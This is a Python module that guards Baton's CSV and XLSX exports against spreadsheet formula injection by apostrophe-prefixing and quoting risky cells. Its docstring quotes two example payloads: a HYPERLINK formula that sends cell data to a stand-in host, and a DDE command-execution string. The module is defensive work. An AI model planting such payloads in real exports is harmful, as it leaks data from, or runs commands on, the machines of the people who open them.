"""Spreadsheet output that cannot run formulas: every CSV or XLSX file Baton writes goes through here.

Baton writes what people typed (comment ids, comments, names). Opened in Excel, LibreOffice or
Google Sheets, a cell that starts with `=`, `+`, `-` or `@` is read as a formula, so a value such as
`=HYPERLINK("https://evil.example/?"&A2,"Click")` or `-2+3+cmd|' /C calc'!A0` in an export runs in
the engagement officer's spreadsheet ("CSV injection", CWE-1236). The rule followed is OWASP's
(CSV Injection page) and ASVS 5.0 requirement 1.2.10:

- a text cell whose first character is `=`, `+`, `-`, `@`, a tab, a carriage return or a NUL gets a
  leading single quote, so that the spreadsheet reads it as text (Excel takes the quote as its
  "text" prefix and does not show it);
- the same when those characters follow leading spaces (" =1+1"), because some importers trim
  spaces before they look for a formula;
- every text cell of a CSV is wrapped in double quotes (`csv.QUOTE_NONNUMERIC`), with embedded
  quotes doubled, so that a spreadsheet that splits on semicolons (the list separator in much of
  Europe) keeps a quoted `x;=1+1` in one cell. (Only where the quoted cell starts a line or follows
  a semicolon: a comma file read with semicolons mid-row is garbled anyway, and text is not
  rewritten inside.)

Numbers are left alone, because they cannot call anything and an export must keep its arithmetic:
an `int`, `float`, `Decimal` or `bool` (numpy's too) is written as it is, and so is a text value that
is wholly a plain decimal number (`-3`, `-0.5`, `+2`, `-1.5e3`: ASCII digits, one optional sign, an
optional point and exponent, surrounding spaces, nothing else), which a spreadsheet reads as that
number. Anything else that starts with a sign is quoted: `-3+cmd|...`, `-1,000`, `-5%`, `-inf`, a
lone `-`. Quoting too much costs a visible apostrophe; quoting too little runs code.

The price: a value that was quoted comes back with its apostrophe when a program reads the file
(an id `=A1` is `'=A1` in OUT.csv). That is OWASP's trade-off too.

No Django here, so the pure-Python feedback engine uses it as well.

    from baton.core.spreadsheets import csv_writer, safe_cell
    w = csv_writer(fh)                       # a csv.writer that neutralises every cell
    w.writerow(["comment_id", "sentiment"])
    ws.append([safe_cell(v) for v in row])   # openpyxl: the same rule, one cell at a time
"""

from __future__ import annotations

import csv
import datetime as dt
import numbers
import re
from collections.abc import Iterable
from typing import Any, Literal

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

# The characters that make a spreadsheet read a cell as a formula (OWASP, and NUL from ASVS 5.0).
FORMULA_STARTS = frozenset("=+-@\t\r\0")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)
# Types a spreadsheet stores as numbers, dates or booleans, never as formulas (openpyxl writes them
# typed; csv writes their str(), a number or an ISO date). The set is the fast path for the common
# exact types; the isinstance check below catches Decimal, numpy's numbers and subclasses.
_TYPED = frozenset({type(None), int, float, bool, dt.date, dt.datetime, dt.time, dt.timedelta})


def safe_cell(value: Any) -> Any:
    """The value to write in a spreadsheet cell so that it cannot be read as a formula.

    Text starting with `=`, `+`, `-`, `@`, tab, CR or NUL (after any leading spaces) gets a leading
    `'`, unless the whole text is a plain decimal number such as `-3` or `-0.5`. Numbers, dates,
    booleans and None come back unchanged (they are stored typed, not as text); any other object
    is turned into its text first, as the csv module would, and then checked. Control characters a
    spreadsheet cannot hold (NUL, vertical tab, form feed and the rest XML 1.0 refuses; a pasted
    comment brings them) are left out, rather than failing the whole export.
    """
    if type(value) in _TYPED or isinstance(value, (numbers.Number, dt.date, dt.time, dt.timedelta)):
        return value
    text = value if isinstance(value, str) else str(value)
    text = ILLEGAL_CHARACTERS_RE.sub("", text)
    if not text:
        return text
    first = text[0]
    if first not in FORMULA_STARTS:
        if not first.isspace():
            return text
        stripped = text.lstrip()
        if not stripped or stripped[0] not in FORMULA_STARTS:
            return text
    if _PLAIN_NUMBER.fullmatch(text.strip()):
        return text
    return "'" + text


def safe_row(row: Iterable[Any]) -> list[Any]:
    """`safe_cell` applied to every cell of a row (for openpyxl's `ws.append`, or any writer)."""
    return [safe_cell(v) for v in row]


class _SafeWriter:
    """A csv.writer whose every cell goes through `safe_cell` first."""

    def __init__(self, writer):
        self._writer = writer

    @property
    def dialect(self):
        return self._writer.dialect

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]):
        return self._writer.writerows(safe_row(r) for r in rows)


def csv_writer(fileobj, dialect: str | csv.Dialect = "excel", **fmtparams) -> _SafeWriter:
    """`csv.writer` for files people open in a spreadsheet: every cell neutralised by `safe_cell`,
    and text cells quoted (`QUOTE_NONNUMERIC`) unless `quoting=` says otherwise.

    Works on anything with `write()`: an open file, `io.StringIO`, a Django `HttpResponse`.
    """
    fmtparams.setdefault("quoting", csv.QUOTE_NONNUMERIC)
    return _SafeWriter(csv.writer(fileobj, dialect, **fmtparams))


class CsvDictWriter(csv.DictWriter):
    """`csv.DictWriter` with `csv_writer`'s neutralising and quoting (the header row included)."""

    def __init__(
        self,
        fileobj,
        fieldnames,
        restval: Any = "",
        extrasaction: Literal["raise", "ignore"] = "raise",
        dialect="excel",
        **kwds,
    ):
        super().__init__(fileobj, fieldnames, restval, extrasaction, dialect, **kwds)
        # A csv writer in all but its class: DictWriter only calls writerow and writerows on it.
        self.writer = csv_writer(fileobj, dialect, **kwds)  # type: ignore[assignment]
